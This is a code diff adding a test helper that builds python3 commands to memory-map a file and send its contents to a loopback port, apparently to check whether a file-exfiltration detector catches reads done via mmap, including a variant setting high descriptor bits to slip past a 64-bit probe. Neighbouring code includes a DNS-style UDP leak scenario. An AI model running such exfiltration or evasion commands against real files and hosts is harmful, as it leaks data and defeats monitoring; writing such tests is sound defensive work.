@@ -59,6 +59,35 @@ s.close()
 '`;
 }
 
+/**
+ * python3 maps `file` into memory (no read(2)), closes it and sends the
+ * mapping to 127.0.0.2:PORT. `highBits` makes the mmap syscall itself with
+ * bit 32 set in the descriptor, which the kernel ignores (it takes an
+ * unsigned int): a probe that read the descriptor as 64 bits would miss it.
+ */
+export function mmapScenario(file: string, port: number, o: { highBits?: boolean } = {}): string {
+  const map = o.highBits
+    ? [
+        'import ctypes',
+        'libc = ctypes.CDLL(None, use_errno=True)',
+        'libc.syscall.restype = ctypes.c_long',
+        'n = os.fstat(fd).st_size',
+        'a = libc.syscall(9, ctypes.c_long(0), ctypes.c_long(n), ctypes.c_long(1), ctypes.c_long(2), ctypes.c_long(fd | (1 << 32)), ctypes.c_long(0))',
+        'assert a > 0, ctypes.get_errno()',
+        'd = ctypes.string_at(a, n)',
+      ]
+    : ['import mmap', 'm = mmap.mmap(fd, 0, prot=mmap.PROT_READ)', 'd = m[:]'];
+  return `python3 -c '
+import os, socket
+fd = os.open("${file}", os.O_RDONLY)
+${map.join('\n')}
+os.close(fd)
+s = socket.create_connection(("127.0.0.2", ${port}))
+s.sendall(d)
+s.close()
+'`;
+}
+
 /** A DNS-style leak: python3 reads `file` and sends part of it hex-encoded as a UDP datagram (a query name) to 127.0.0.2:PORT. */
 export function udpLeakScenario(file: string, port: number): string {
   return `python3 -c '
